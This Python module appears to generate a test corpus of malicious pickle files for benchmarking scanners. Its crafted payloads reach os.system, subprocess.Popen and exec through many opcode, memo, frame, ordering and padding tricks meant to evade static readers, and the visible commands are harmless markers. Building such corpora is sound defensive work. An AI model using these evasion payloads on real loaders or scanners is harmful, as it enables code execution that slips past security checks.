"""Pickles whose attack is plain to the C unpickler and hidden from readers with other rules.

Source: CPython, Modules/_pickle.c and Lib/pickle.py (what each opcode takes), Lib/_compat_pickle.py.
"""

import struct
from collections.abc import Iterator

from bench.attack_case import CODE, COMMAND, EVIL, RUN, Attack, Name, put, text

FAMILY = "pickle: opcodes"
PLAIN = b"cos\nsystem\n"
ARGUMENTS = b"(V" + COMMAND.encode() + b"\nt"
CALLED = PLAIN + ARGUMENTS + b"R"
Made = Iterator[tuple[str, bytes, str]]


def attacks() -> Iterator[Attack]:
    for number, (name, data, why) in enumerate(
        [*_spelling(), *_objects(), *_memo(), *_frames(), *_order(), *_size()]
    ):
        yield Attack(FAMILY, f"{number:03}-{name}.pkl", data, why)


def _short(value: bytes) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value


def _spelling() -> Made:
    """Yield the same call with its names and arguments written in every way."""
    yield "protocol-0", CALLED + b".", "no protocol at all"
    yield "protocol-1", PLAIN + b"(U\x0ctouch markertR.", "SHORT_BINSTRING"
    yield "old-names", b"c__builtin__\neval\n(S" + repr(CODE).encode() + b"\ntR.", "a name of Python 2"
    for module, name in (
        ("commands", "getoutput"),
        ("urllib2", "urlopen"),
        ("cPickle", "loads"),
        ("anydbm", "open"),
    ):
        yield (
            f"renamed-{module}",
            f"c{module}\n{name}\n(Vmarker\ntR.".encode(),
            "renamed by the table for Python 2",
        )
    yield (
        "string-escapes",
        b"\x80\x04(S'o\\x73'\nS'\\x73ystem'\n" + b"\x93" + ARGUMENTS + b"R.",
        "escapes in STRING",
    )
    yield (
        "string-no-mark",
        b"\x80\x04S'os'\nS'sys\\164em'\n\x93" + ARGUMENTS + b"R.",
        "octal escapes in STRING",
    )
    yield (
        "unicode-escape",
        b"\x80\x04V\\u006fs\nVs\\u0079stem\n\x93" + ARGUMENTS + b"R.",
        "escapes in UNICODE",
    )
    yield (
        "short",
        b"\x80\x04" + _short(b"os") + _short(b"system") + b"\x93" + ARGUMENTS + b"R.",
        "SHORT_BINUNICODE",
    )
    eight = b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system"
    yield "binunicode8", b"\x80\x04" + eight + b"\x93" + ARGUMENTS + b"R.", "BINUNICODE8"
    yield (
        "binstring",
        b"\x80\x04T" + struct.pack("<I", 2) + b"osU\x06system\x93" + ARGUMENTS + b"R.",
        "BINSTRING names",
    )
    mixed = b"\x80\x04S'os'\n" + text("system") + b"\x93"
    yield "mixed", mixed + ARGUMENTS + b"R.", "names of two kinds"
    yield "global-in-4", b"\x80\x05" + CALLED + b".", "GLOBAL in protocol 5"
    yield "tuple1", b"\x80\x02" + PLAIN + text(COMMAND) + b"\x85R.", "TUPLE1"
    yield "memoized-tuple", b"\x80\x02" + PLAIN + text(COMMAND) + b"\x85q\x01h\x01R.", "arguments by the memo"
    yield (
        "list-argument",
        b"\x80\x02csubprocess\nPopen\n(](X\x05\0\0\0touchX\x06\0\0\0markeretR.",
        "a list as argument",
    )
    yield (
        "bytes-name",
        b"\x80\x04"
        + _short(b"builtins")
        + _short(b"exec")
        + b"\x93(B"
        + struct.pack("<I", len(CODE))
        + CODE.encode()
        + b"tR.",
        "exec of bytes",
    )
    yield (
        "bytearray",
        b"\x80\x05cbuiltins\nexec\n(\x96" + struct.pack("<Q", len(CODE)) + CODE.encode() + b"tR.",
        "exec of a BYTEARRAY8",
    )
    yield "long-int", b"\x80\x04L0L\n0I00\n0I01\n0F1.5\n0" + CALLED + b".", "text numbers before"
    yield "padded-int", b"I 12\n0" + CALLED + b".", "a padded number, which C's strtol takes"
    yield (
        "hex-int",
        b"I0x10\n0" + CALLED + b".",
        "a hexadecimal number, which C takes and pickletools rejects",
    )
    yield "null-in-int", b"I12\x00x\n0" + CALLED + b".", "a NUL ends C's number early"
    yield "signed-put", b"Vx\np+7\n0" + CALLED + b".", "a sign in a memo number"
    yield "spaced-get", b"Vx\np7\n0g 7\n0" + CALLED + b".", "a space in a memo number"
    yield (
        "string-utf8",
        b"S'caf\xc3\xa9'\n0" + CALLED + b".",
        "a text that is not ASCII (with an encoding given)",
    )
    yield (
        "utf8-global",
        "\x80\x04cos\nsystem\n".encode("latin-1") + ARGUMENTS + b"R.",
        "a plain GLOBAL by protocol 4",
    )
    yield "surrogates", b"\x80\x04" + text("\ud800") + b"0" + CALLED + b".", "a lone surrogate, which C takes"
    yield "long4", b"\x80\x02\x8b\x00\x00\x00\x000" + CALLED + b".", "an empty LONG4"
    yield "quotes", b'S"it\'s"\n0' + CALLED + b".", "the other quotes"
    yield "float-words", b"Finf\n0Fnan\n0" + CALLED + b".", "numbers that are words"


def _objects() -> Made:
    """Yield calls by every opcode that calls."""
    yield "inst", b"(V" + COMMAND.encode() + b"\nios\nsystem\n.", "INST"
    yield "obj", b"(" + PLAIN + b"V" + COMMAND.encode() + b"\no.", "OBJ"
    yield (
        "obj-class",
        b"\x80\x02(csubprocess\nPopen\n](X\x05\0\0\0touchX\x06\0\0\0markereo.",
        "OBJ of a class",
    )
    yield (
        "newobj",
        b"\x80\x02csubprocess\nPopen\n" + put((["touch", "marker"],)) + b"\x81.",
        "NEWOBJ of a process",
    )
    yield "newobj-ex", b"\x80\x04csubprocess\nPopen\n" + put((["touch", "marker"],)) + b"}\x92.", "NEWOBJ_EX"
    yield "persid", b"Pos.system\n0" + CALLED + b".", "a persistent id before"
    yield "binpersid", b"\x80\x02" + text("x") + b"Q0" + CALLED + b".", "a binary persistent id before"
    yield (
        "call-of-call",
        b"\x80\x04" + put(Name("functools", "partial")) + b"(" + PLAIN + b"tR" + ARGUMENTS + b"R.",
        "a partial, called",
    )
    yield "popped", b"\x80\x04" + CALLED + b"0N.", "the result of the call is thrown away"
    yield "pop-mark", b"\x80\x04(" + CALLED + b"1}.", "the call is thrown away with its mark"
    yield "setitem-value", b"\x80\x04}" + text("a") + CALLED + b"s.", "the call is a value"
    yield "setitem-key", b"\x80\x04}" + CALLED + text("a") + b"s.", "the call is a key"
    yield "in-set", b"\x80\x04\x8f(" + CALLED + b"\x90.", "the call is in a set"
    yield "in-frozenset", b"\x80\x04(" + CALLED + b"\x91.", "the call is in a frozen set"
    yield "build-noise", b"\x80\x04" + CALLED + b"}b.", "BUILD behind the call (GHSA-mhc9-48gj-9gp3)"
    yield (
        "build-noise-state",
        b"\x80\x04" + CALLED + b"}" + text("a") + text("b") + b"sb0}.",
        "a state behind the call",
    )
    yield (
        "as-argument",
        b"\x80\x04ccollections\nOrderedDict\n((" + CALLED + b"tt0)R.",
        "the call among harmless arguments",
    )


def _memo() -> Made:
    """Yield names that come from the memo, which is written over."""
    yield "by-get", b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + ARGUMENTS + b"R.", "GET"
    yield (
        "by-binget",
        b"\x80\x02" + text("os") + b"q\x00" + text("system") + b"q\x0100h\x00h\x01\x93" + ARGUMENTS + b"R.",
        "BINGET",
    )
    long = b"\x80\x04" + text("system") + b"r\x00\x01\x00\x000" + text("os") + b"j\x00\x01\x00\x00\x93"
    yield "by-long-binget", long + ARGUMENTS + b"R.", "LONG_BINGET"
    yield (
        "memoize",
        b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + ARGUMENTS + b"R.",
        "MEMOIZE",
    )
    twice = text("collections") + b"q\x00" + b"0" + text("os") + b"q\x00" + b"0" + text("system")
    yield (
        "overwritten",
        b"\x80\x04" + twice + b"q\x010h\x00h\x01\x93" + ARGUMENTS + b"R.",
        "one number written twice",
    )
    decoy = text("collections") + text("OrderedDict") + b"00"
    yield (
        "decoy",
        b"\x80\x04"
        + text("os")
        + b"q\x05"
        + text("system")
        + b"q\x0600"
        + decoy
        + b"h\x05h\x06\x93"
        + ARGUMENTS
        + b"R.",
        "harmless texts stand just before",
    )
    yield (
        "global-in-memo",
        b"\x80\x04" + PLAIN + b"q\x090" + text("x") + b"0h\x09" + ARGUMENTS + b"R.",
        "the function by the memo",
    )
    yield (
        "gap",
        b"\x80\x04"
        + text("os")
        + b"r\xff\xff\x00\x000"
        + text("x")
        + b"\x940j\xff\xff\x00\x00"
        + text("system")
        + b"\x93"
        + ARGUMENTS
        + b"R.",
        "MEMOIZE after a gap counts entries",
    )
    yield (
        "duplicate",
        b"\x80\x04"
        + text("system")
        + text("os")
        + b"20"
        + b"q\x0100"
        + b"h\x01"
        + text("system")
        + b"\x93"
        + ARGUMENTS
        + b"R.",
        "DUP",
    )
    made = b"\x80\x04" + text("os") + text("system") + b"\x93\x94\x8c\x01x\x940h\x00" + ARGUMENTS + b"R."
    yield "memoized-global", made, "the function is memoized, something else is pushed and popped"


def _frames() -> Made:
    """Yield frames and protocols that lie."""
    body = CALLED + b"."
    frame = b"\x80\x04\x95"
    yield "frame", frame + struct.pack("<Q", len(body)) + body, "a proper frame"
    yield "frame-short", frame + struct.pack("<Q", 4) + body, "a frame that ends within an opcode's argument"
    yield "frame-zero", frame + struct.pack("<Q", 0) + body, "an empty frame"
    nested = b"\x95" + struct.pack("<Q", len(body)) + body
    yield "frame-nested", frame + struct.pack("<Q", len(nested)) + nested, "a frame in a frame"
    yield "frame-late", b"\x80\x04N0" + b"\x95" + struct.pack("<Q", len(body)) + body, "a frame in the middle"
    yield "frame-protocol-2", b"\x80\x02\x95" + struct.pack("<Q", len(body)) + body, "a frame in protocol 2"
    yield "protocol-twice", b"\x80\x04N0\x80\x00" + body, "the protocol changes"
    yield "protocol-late", b"N0\x80\x05" + body, "the protocol is named late"
    for number in (0, 1, 3, 5):
        yield f"protocol-{number}-named", b"\x80" + bytes([number]) + body, f"protocol {number} named"


def _order() -> Made:
    """Yield files in which the attack is before or behind what a reader looks at."""
    good = b"\x80\x04}."
    yield "second", good + EVIL, "a second pickle behind the first"
    yield "tenth", good * 9 + EVIL, "a tenth pickle"
    yield "behind-noise", good + b"\x00" * 64 + EVIL, "a pickle behind zeros"
    yield "no-stop", b"\x80\x04" + CALLED, "the call runs, then the end is missing"
    yield "broken-behind", b"\x80\x04" + CALLED + b"\xff\xff\xff", "the call runs, then an unknown opcode"
    yield (
        "broken-argument",
        b"\x80\x04" + CALLED + b"X\xff\xff\xff\x7fab",
        "the call runs, then a text is too long",
    )
    yield "underflow-behind", b"\x80\x04" + CALLED + b"000.", "the call runs, then the stack is empty"
    yield (
        "bad-import-behind",
        b"\x80\x04" + CALLED + b"cno_such_module\nx\n.",
        "the call runs, then an import fails",
    )
    yield "stop-in-text", b"\x80\x04" + text("a.") + b"0" + CALLED + b".", "a full stop in a text"
    yield "missing-memo", b"\x80\x04" + CALLED + b"h\x55.", "the call runs, then the memo has no such entry"
    yield "duplicate-protocol", good[:-1] + b"0\x80\x04" + CALLED + b".", "two heads in one"
    yield (
        "huge-length",
        b"\x80\x04" + CALLED + b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "an impossible length behind the call",
    )


def _size() -> Made:
    """Yield attacks behind or within much harmless data."""
    names = b"".join(b"ccollections\nOrderedDict\n)R0" for _ in range(3000))
    yield "safe-names", b"\x80\x04" + names + CALLED + b".", "three thousand harmless calls before"
    yield (
        "many-numbers",
        b"\x80\x04" + b"K\x010" * 200_000 + CALLED + b".",
        "four hundred thousand opcodes before",
    )
    yield (
        "long-text",
        b"\x80\x04" + text("x" * 3_000_000) + b"0" + CALLED + b".",
        "three megabytes of text before",
    )
    yield "deep", b"\x80\x04" + b"]" * 3000 + CALLED + b"a" * 3000 + b".", "three thousand lists deep"
    yield "many-marks", b"\x80\x04" + b"(" * 5000 + CALLED + b"1" * 5000 + b"N.", "five thousand marks"
    yield (
        "many-memos",
        b"\x80\x04"
        + text("os")
        + b"".join(b"r" + struct.pack("<I", n) for n in range(20_000))
        + text("system")
        + b"\x93"
        + ARGUMENTS
        + b"R.",
        "twenty thousand memo entries",
    )
    bomb = b"\x80\x04" + b"\x8c\x0aaaaaaaaaaa\x85" + b"2\x86" * 200 + b"c__main__\npayload\n\x85R."
    yield "shared", bomb, "two hundred doublings, which a reader that follows each takes for ever to print"
    yield "list-of-calls", b"\x80\x04" + put([RUN] * 50) + b".", "fifty calls"
    yield (
        "next-to-data",
        b"\x80\x04" + put({"weights": [0.5] * 500, "bias": b"\0" * 4000, "hook": RUN}) + b".",
        "one call among weights",
    )
